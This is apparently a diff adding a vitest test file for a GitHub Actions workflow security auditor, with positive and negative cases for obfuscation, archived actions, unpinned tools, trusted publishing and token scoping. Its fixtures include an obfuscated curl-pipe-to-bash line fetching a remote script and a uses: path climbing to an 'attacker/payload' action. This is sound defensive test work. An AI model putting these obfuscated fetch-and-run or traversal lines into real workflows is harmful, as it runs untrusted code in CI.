@@ -1,0 +1,184 @@
+import { describe, expect, it } from 'vitest';
+import { extractWorkflow } from '../../../src/ecosystems/github-actions/extract.js';
+import { obfuscatedUses } from '../../../src/ecosystems/github-actions/obfuscation-rules.js';
+
+/**
+ * Positive and negative cases for the workflow audits added for parity with zizmor's offline list
+ * (docs/findings.md, "zizmor parity"): obfuscation, archived and superfluous actions, unpinned tools,
+ * trusted publishing, misfeatures, GitHub App tokens, unsound ternaries.
+ */
+
+const SHA = 'b4ffde65f46336ab88eb53be808477a3936bae11';
+
+function found(content: string, id: string, path = '.github/workflows/x.yml'): [string, number | null][] {
+  return (extractWorkflow(content, path).findings ?? []).filter((f) => f.id === id).map((f) => [f.severity, f.line]);
+}
+
+const wf = (steps: string, extra = '') => `name: CI
+on: [push, pull_request]
+permissions:
+  contents: read
+${extra}jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@${SHA}
+${steps}`;
+
+describe('gha-obfuscation', () => {
+  it('reports uses: paths with .. / . / empty segments and local actions that climb out of the workspace', () => {
+    expect(obfuscatedUses('actions/checkout/../../evil/x@v4')).toMatch(/\.\./);
+    expect(obfuscatedUses('actions//checkout@v4')).toMatch(/empty/);
+    expect(obfuscatedUses('github/codeql-action/./init@v3')).toMatch(/\./);
+    expect(obfuscatedUses('./../downloaded/action')).toMatch(/climbs out/);
+    expect(found(wf(`      - uses: actions/checkout/../../attacker/payload@${SHA}\n`), 'gha-obfuscation')).toEqual([['medium', 10]]);
+  });
+
+  it('reports constant expressions that hide text in a script, format() of literals and fromJSON(toJSON())', () => {
+    const content = wf(`      - run: cu\${{ '' }}rl -sSf https://example.test/x.sh | ba\${{ '' }}sh
+      - run: echo "\${{ format('{0}{1}', 'to', 'ken') }}"
+      - uses: actions/github-script@${SHA}
+        with:
+          script: console.log(\${{ fromJSON(toJSON(github.event.issue.title)) }})
+      - run: echo "\${{ github.event[format('{0}', 'issue')].title }}"
+`);
+    const results = found(content, 'gha-obfuscation');
+    expect(results.map(([s]) => s)).toEqual(['medium', 'medium', 'medium', 'medium']);
+    expect(results[0]![1]).toBe(10);
+  });
+
+  it('is quiet on ordinary uses: paths and expressions', () => {
+    const content = wf(`      - uses: ./
+      - uses: ./.github/actions/setup
+      - uses: github/codeql-action/init@${SHA}
+      - run: echo "\${{ matrix.node }} \${{ github.sha }} \${{ inputs.debug && 'yes' || 'no' }}"
+        if: \${{ false }}
+      - uses: actions/setup-node@${SHA}
+        with:
+          node-version: \${{ 20 }}
+          cache: \${{ true }}
+`);
+    expect(found(content, 'gha-obfuscation')).toEqual([]);
+  });
+});
+
+describe('gha-archived-action', () => {
+  it('reports an archived action with what to use instead', () => {
+    const results = extractWorkflow(wf('      - uses: actions-rs/toolchain@v1\n        with:\n          toolchain: stable\n      - uses: actions/create-release@v1\n'), '.github/workflows/x.yml').findings ?? [];
+    const archived = results.filter((f) => f.id === 'gha-archived-action');
+    expect(archived.map((f) => [f.severity, f.package, f.line])).toEqual([
+      ['low', 'actions-rs/toolchain', 10],
+      ['low', 'actions/create-release', 13],
+    ]);
+    expect(archived[0]!.detail).toMatch(/rustup/);
+  });
+
+  it('is quiet on maintained actions', () => {
+    expect(found(wf(`      - uses: dtolnay/rust-toolchain@${SHA}\n      - uses: ruby/setup-ruby@${SHA}\n`), 'gha-archived-action')).toEqual([]);
+  });
+});
+
+describe('gha-superfluous-action', () => {
+  it('notes an action that wraps a preinstalled tool, at info', () => {
+    expect(found(wf(`      - uses: softprops/action-gh-release@${SHA}\n`), 'gha-superfluous-action')).toEqual([['info', 10]]);
+  });
+  it('is quiet on actions that do more than a preinstalled tool', () => {
+    expect(found(wf(`      - uses: docker/build-push-action@${SHA}\n`), 'gha-superfluous-action')).toEqual([]);
+  });
+});
+
+describe('gha-unpinned-tool', () => {
+  it('reports actions that fetch the latest tool release', () => {
+    expect(found(wf(`      - uses: aquasecurity/setup-trivy@${SHA}\n      - uses: hashicorp/setup-terraform@${SHA}\n        with:\n          terraform_version: latest\n`), 'gha-unpinned-tool')).toEqual([
+      ['low', 10],
+      ['low', 11],
+    ]);
+  });
+  it('is quiet when the version is set', () => {
+    expect(found(wf(`      - uses: aquasecurity/setup-trivy@${SHA}\n        with:\n          version: v0.57.1\n`), 'gha-unpinned-tool')).toEqual([]);
+  });
+});
+
+describe('gha-use-trusted-publishing', () => {
+  it('reports publishing to PyPI, npm, crates.io and RubyGems with a stored token', () => {
+    const content = wf(`      - uses: pypa/gh-action-pypi-publish@${SHA}
+        with:
+          password: \${{ secrets.PYPI_API_TOKEN }}
+      - run: npm publish --provenance
+        env:
+          NODE_AUTH_TOKEN: \${{ secrets.NPM_TOKEN }}
+      - run: cargo publish --token \${{ secrets.CRATES_TOKEN }}
+      - run: gem push pkg/*.gem
+        env:
+          GEM_HOST_API_KEY: \${{ secrets.RUBYGEMS_KEY }}
+`);
+    const results = extractWorkflow(content, '.github/workflows/release.yml').findings?.filter((f) => f.id === 'gha-use-trusted-publishing') ?? [];
+    expect(results.map((f) => [f.severity, f.title.replace(/.* to (\S+) .*/, '$1')])).toEqual([
+      ['low', 'PyPI'],
+      ['low', 'npm'],
+      ['low', 'crates.io'],
+      ['low', 'RubyGems'],
+    ]);
+    expect(results[0]!.line).toBe(12);
+  });
+
+  it('is quiet on trusted publishing (no token) and on tokens that are not publishing', () => {
+    const content = wf(`      - uses: pypa/gh-action-pypi-publish@${SHA}
+      - run: npm publish --provenance
+      - run: npm test
+        env:
+          NPM_TOKEN: \${{ secrets.NPM_TOKEN }}
+`);
+    expect(found(content, 'gha-use-trusted-publishing')).toEqual([]);
+  });
+});
+
+describe('gha-misfeature', () => {
+  it('reports pip-install on setup-python and the cmd shell', () => {
+    const content = wf(`      - uses: actions/setup-python@${SHA}
+        with:
+          pip-install: -r requirements.txt
+      - run: build.bat
+        shell: cmd
+`);
+    expect(found(content, 'gha-misfeature')).toEqual([
+      ['low', 12],
+      ['low', 14],
+    ]);
+  });
+  it('is quiet on setup-python without pip-install and on pwsh', () => {
+    expect(found(wf(`      - uses: actions/setup-python@${SHA}\n        with:\n          python-version: '3.13'\n      - run: ./build.ps1\n        shell: pwsh\n`), 'gha-misfeature')).toEqual([]);
+  });
+});
+
+describe('gha-github-app-token', () => {
+  it('reports a token that skips revocation or reaches every repository of the owner', () => {
+    const content = wf(`      - uses: actions/create-github-app-token@${SHA}
+        with:
+          app-id: \${{ vars.APP_ID }}
+          private-key: \${{ secrets.APP_KEY }}
+          owner: acme
+          skip-token-revoke: true
+`);
+    expect(found(content, 'gha-github-app-token').map(([s]) => s)).toEqual(['low', 'low']);
+  });
+  it('is quiet on a token scoped to named repositories', () => {
+    const content = wf(`      - uses: actions/create-github-app-token@${SHA}
+        with:
+          app-id: \${{ vars.APP_ID }}
+          private-key: \${{ secrets.APP_KEY }}
+          owner: acme
+          repositories: website
+`);
+    expect(found(content, 'gha-github-app-token')).toEqual([]);
+  });
+});
+
+describe('gha-unsound-ternary', () => {
+  it("reports a && '' || b", () => {
+    expect(found(wf(`      - run: echo "$FLAG"\n        env:\n          FLAG: \${{ github.event_name == 'push' && '' || '--dry-run' }}\n`), 'gha-unsound-ternary')).toEqual([['low', 12]]);
+  });
+  it('is quiet on a ternary whose true arm is truthy', () => {
+    expect(found(wf(`      - run: echo "$FLAG"\n        env:\n          FLAG: \${{ github.event_name == 'push' && '--publish' || '--dry-run' }}\n`), 'gha-unsound-ternary')).toEqual([]);
+  });
+});
